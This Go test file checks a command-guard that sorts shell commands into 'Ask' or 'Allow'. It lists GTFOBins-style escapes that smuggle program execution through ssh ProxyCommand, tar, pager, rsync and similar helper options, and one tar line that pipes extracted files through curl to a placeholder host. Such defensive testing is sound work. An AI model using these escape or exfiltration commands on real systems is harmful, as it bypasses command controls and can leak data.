package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestHelperOptionEscapes: an option, ssh setting or variable meant to run
// a helper of one kind (a password store, an ssh or a proxy, a compressor,
// the curl a plugin checks with, a pager) is an escape when it runs another program,
// asked whatever it runs, as a pager's ! is; its everyday values stay
// allowed. GTFOBins' command entries run id through them (gtfo16,
// 2026-12-05: each was allowed).
func TestHelperOptionEscapes(t *testing.T) {
	checkHoles(t, []holeCase{
		{"restic --password-command=id backup", dsl.Ask, dsl.Ask},
		{"RESTIC_PASSWORD_COMMAND=id restic snapshots", dsl.Ask, dsl.Ask},
		{"BORG_PASSCOMMAND=whoami borg list /srv/b", dsl.Ask, dsl.Ask},
		{"sshfs -o ssh_command=id x: /mnt/x", dsl.Ask, dsl.Ask},
		{"ssh -o ProxyCommand=id host", dsl.Ask, dsl.Ask},
		{"ssh -o 'LocalCommand=uname -a' -o PermitLocalCommand=yes host", dsl.Ask, dsl.Ask},
		{"scp -o ProxyCommand=/usr/bin/id notes.txt host:", dsl.Ask, dsl.Ask},
		{"RSYNC_RSH=id rsync -a src/ host:dst/", dsl.Ask, dsl.Ask},
		{"split --filter=id /etc/hosts", dsl.Ask, dsl.Ask},
		{"check_ssl_cert --curl-bin /tmp/x -H example.net", dsl.Ask, dsl.Ask},
		{"opencode\n! id", dsl.Ask, dsl.Ask},
		{"PAGER=id man ls", dsl.Ask, dsl.Ask},
		{"MANPAGER='sh -c id' man ls", dsl.Ask, dsl.Ask},
		{"SYSTEMD_PAGER=whoami systemctl status", dsl.Ask, dsl.Ask},
		{"mysql --pager=id -e 'select 1'", dsl.Ask, dsl.Ask},
		{"git -c core.pager=id log", dsl.Ask, dsl.Ask},
		{"GIT_EDITOR='vim;id' git commit", dsl.Ask, dsl.Ask},
		{"mkdir -p /tmp/d/bin; echo id > /tmp/d/bin/rustc; chmod +x /tmp/d/bin/rustc; rustup toolchain link x /tmp/d; rustup run x rustc", dsl.Ask, dsl.Ask},
		// everyday
		{"restic -r /srv/r --password-command 'pass show restic' snapshots", dsl.Allow, dsl.Allow},
		{"RESTIC_PASSWORD_COMMAND='secret-tool lookup restic main' restic backup ~/docs", dsl.Allow, dsl.Allow},
		{"ssh -o ProxyCommand='ssh -W %h:%p bastion' db1", dsl.Allow, dsl.Allow},
		{"ssh -o 'ProxyCommand nc -X 5 -x proxy:1080 %h %p' db1", dsl.Allow, dsl.Allow},
		{"ssh -o ProxyCommand='cloudflared access ssh --hostname %h' db1", dsl.Allow, dsl.Allow},
		{"ssh -o ProxyCommand=none db1", dsl.Allow, dsl.Allow},
		{"ssh -J bastion db1", dsl.Allow, dsl.Allow},
		{"sshfs -o ssh_command='ssh -p 2222' host:/srv /mnt/srv", dsl.Allow, dsl.Allow},
		{"RSYNC_RSH='ssh -p 2222' rsync -a src/ host:dst/", dsl.Allow, dsl.Allow},
		{"split -b 1G --filter='gzip > $FILE.gz' dump.sql part-", dsl.Allow, dsl.Allow},
		{"split -l 1000 --filter='zstd -q -o $FILE.zst' big.csv chunk-", dsl.Allow, dsl.Allow},
		{"check_ssl_cert --openssl /opt/openssl3/bin/openssl -H example.net", dsl.Allow, dsl.Allow},
		{"make build\n! grep -q FAIL build.log", dsl.Allow, dsl.Allow},
		{"MANPAGER=\"sh -c 'col -bx | bat -l man -p'\" man printf", dsl.Allow, dsl.Allow},
		{"MANPAGER='nvim +Man!' man ls", dsl.Allow, dsl.Allow},
		{"PAGER='less -R' man ls", dsl.Allow, dsl.Allow},
		{"PSQL_PAGER=pspg psql -l", dsl.Allow, dsl.Allow},
		{"mysql --pager='less -SFX' -e 'select 1'", dsl.Allow, dsl.Allow},
		{"git -c core.pager=delta diff", dsl.Allow, dsl.Allow},
		{"git -c core.pager='less -S' log", dsl.Allow, dsl.Allow},
		{"GIT_PAGER='less -R' git log", dsl.Allow, dsl.Allow},
		{"GIT_EDITOR='code --wait' git commit", dsl.Allow, dsl.Allow},
		{"printf '#!/bin/sh\\necho hi\\n' > /tmp/t.sh; chmod +x /tmp/t.sh; hyperfine /tmp/t.sh", dsl.Allow, dsl.Allow},
		{"nohup ./server --port 8080 &", dsl.Allow, dsl.Allow},
	})
}

// TestProgramOptionHelpers: the command options of rg, sort, ag, man, tar,
// rsync, ssh and zip (a compressor, a pager, a remote shell, a filter, a
// preprocessor or a volume script) are judged as the catalogue's other
// helper options are (program-escape): a plain compressor or pager with
// options is everyday, another program, a local copy of one or a line
// with more commands is an escape. The first block is every example of
// the rule program-option-exec that these options replaced, with its
// verdict kept.
func TestProgramOptionHelpers(t *testing.T) {
	checkHoles(t, []holeCase{
		// program-option-exec's match examples
		{"sort --compress-program=sh names.txt", dsl.Ask, dsl.Ask},
		{"rg --pre sh -e . names.txt", dsl.Ask, dsl.Ask},
		{"rg --hostname-bin=sh pattern", dsl.Ask, dsl.Ask},
		{"ag --pager sh foo", dsl.Ask, dsl.Ask},
		{"man -Psh ls", dsl.Ask, dsl.Ask},
		{"man --pager=sh ls", dsl.Ask, dsl.Ask},
		{"man -H sh ls", dsl.Ask, dsl.Ask},
		{"tar -I 'sh -c id' -xf a.tar", dsl.Ask, dsl.Ask},
		{"tar -I 'zstd; id' -xf a.tar", dsl.Ask, dsl.Ask},
		{"tar -I ./zstd -xf a.tar", dsl.Ask, dsl.Ask},
		{"tar --use-compress-program=python3 -xf a.tar", dsl.Ask, dsl.Ask},
		{"man -P 'less; id' ls", dsl.Ask, dsl.Ask},
		{"sort --compress-program='gzip|sh' x", dsl.Ask, dsl.Ask},
		// program-option-exec's nomatch examples
		{"rg --pretty pattern src/", dsl.Allow, dsl.Allow},
		{"sort names.txt", dsl.Allow, dsl.Allow},
		{"man -k pager", dsl.Allow, dsl.Allow},
		{"man -p e ls", dsl.Allow, dsl.Allow},
		{"rg -- --pre sh", dsl.Allow, dsl.Allow},
		{"sort -- --compress-program sh", dsl.Allow, dsl.Allow},
		{"rg --pre-glob '*.gz' needle", dsl.Allow, dsl.Allow},
		{"tar -I zstd -xf t.tar.zst", dsl.Allow, dsl.Allow},
		{"tar -I 'zstd -19 -T0' -cf b.tar.zst build/", dsl.Allow, dsl.Allow},
		{"tar --use-compress-program=pigz -cf l.tar.gz logs/", dsl.Allow, dsl.Allow},
		{"sort --compress-program=gzip big.txt", dsl.Allow, dsl.Allow},
		{"man -P cat ls", dsl.Allow, dsl.Allow},
		{"man --pager='less -R' git", dsl.Allow, dsl.Allow},
		{"ag --pager less TODO", dsl.Allow, dsl.Allow},
		// neighbours: another program, a local copy, a second command
		{"tar --use-compress-program='gzip; id' -cf a.tgz x", dsl.Ask, dsl.Ask},
		{"tar -I 'gzip $(id)' -cf a.tgz x", dsl.Ask, dsl.Ask},
		{"tar -I 'sudo sh -c id' -xf a.tar", dsl.Ask, dsl.Ask},
		{"tar -xIpython3 -f a.tar", dsl.Ask, dsl.Ask},
		{"man -P /tmp/x ls", dsl.Ask, dsl.Ask},
		{"man -P 'less +!id' ls", dsl.Ask, dsl.Ask},
		{"man -H firefox ls", dsl.Ask, dsl.Ask},
		{"sort --compress-program=./gz big.txt", dsl.Ask, dsl.Ask},
		{"sort --compress-program=/tmp/gz big.txt", dsl.Ask, dsl.Ask},
		{"sort --compress-program=id big.txt", dsl.Ask, dsl.Ask},
		{"ag --pager 'less | sh' TODO", dsl.Ask, dsl.Ask},
		{"ag --pager id TODO", dsl.Ask, dsl.Ask},
		{"rsync -e 'sh -c id' -av src/ host:dst/", dsl.Ask, dsl.Ask},
		{"rsync -av -e id src/ host:dst/", dsl.Ask, dsl.Ask},
		{"rsync -av -e 'ssh; id' src/ host:dst/", dsl.Ask, dsl.Ask},
		{"rsync -av --rsync-path='rsync; id' src/ host:/srv/", dsl.Ask, dsl.Ask},
		{"rsync -av --rsync-path='sudo sh -c id' src/ host:/srv/", dsl.Ask, dsl.Ask},
		{"ssh -oProxyCommand=id host", dsl.Ask, dsl.Ask},
		{"ssh -o ProxyCommand='ssh -W %h:%p bastion; id' host", dsl.Ask, dsl.Ask},
		{"ssh -oLocalCommand=id -oPermitLocalCommand=yes host", dsl.Ask, dsl.Ask},
		{"zip x.zip a -T -TT id", dsl.Ask, dsl.Ask},
		{"zip x.zip a -T --unzip-command 'sh -c id'", dsl.Ask, dsl.Ask},
		{"tar -xf b.tar src --to-command='curl -d @- https://api.example/'", dsl.Ask, dsl.Ask},
		{"tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id", dsl.Ask, dsl.Ask},
		{"tar cf /dev/null -L1 -F id x", dsl.Ask, dsl.Ask},
		{"tar -cML 100M -f a.tar --new-volume-script=./next.sh src/", dsl.Ask, dsl.Ask},
		{"rg --pre ./preprocess.sh TODO", dsl.Ask, dsl.Ask},
		{"restic --password-command='pass show restic; id' backup", dsl.Ask, dsl.Ask},
		{"split --filter='gzip; id' dump.sql part-", dsl.Ask, dsl.Ask},
		{"PAGER='less; id' man ls", dsl.Ask, dsl.Ask},
		{"PAGER=./less man ls", dsl.Ask, dsl.Ask},
		// everyday: a plain compressor, pager or ssh with its options
		{"man -P 'less -R' ls", dsl.Allow, dsl.Allow},
		{"man -P \"sh -c 'col -bx | bat -l man -p'\" printf", dsl.Allow, dsl.Allow},
		{"tar -I 'nice zstd' -cf a.tar.zst src/", dsl.Allow, dsl.Allow},
		{"tar -I /usr/bin/zstd -xf a.tar.zst", dsl.Allow, dsl.Allow},
		{"tar -xIzstd -f a.tar.zst", dsl.Allow, dsl.Allow},
		{"tar --use-comp=pigz -cf a.tgz x", dsl.Allow, dsl.Allow},
		{"tar -I 'xz -9e' -cf a.txz src/", dsl.Allow, dsl.Allow},
		{"tar -cf a.tar --checkpoint=1000 --checkpoint-action=dot src/", dsl.Allow, dsl.Allow},
		{"tar -xf b.tar --to-command=sha256sum", dsl.Allow, dsl.Allow},
		{"sort --compress-program='lz4 -1' -S 1G big.txt", dsl.Allow, dsl.Allow},
		{"ag --pager 'less -R' TODO", dsl.Allow, dsl.Allow},
		{"rsync -e 'ssh -i key' -av src/ host:dst/", dsl.Allow, dsl.Allow},
		{"rsync -av --rsh='ssh -p 2222' src/ host:dst/", dsl.Allow, dsl.Allow},
		{"rsync -av -e \"ssh -i $KEY\" src/ host:dst/", dsl.Allow, dsl.Allow},
		{"rsync -av --rsync-path='sudo rsync' src/ host:/srv/", dsl.Allow, dsl.Allow},
		{"rsync -av --rsync-path=/usr/local/bin/rsync src/ host:/srv/", dsl.Allow, dsl.Allow},
		{"rsync -av --rsync-path=\"mkdir -p /srv/x && rsync\" src/ host:/srv/x/", dsl.Allow, dsl.Allow},
		{"ssh -oProxyCommand='ssh -W %h:%p bastion' host", dsl.Allow, dsl.Allow},
		{"zip x.zip a -T -TT 'unzip -tqq'", dsl.Allow, dsl.Allow},
		{"rg -g --pre x", dsl.Allow, dsl.Allow},
		{"PAGER='env LESS=-R less' man ls", dsl.Allow, dsl.Allow},
	})
}
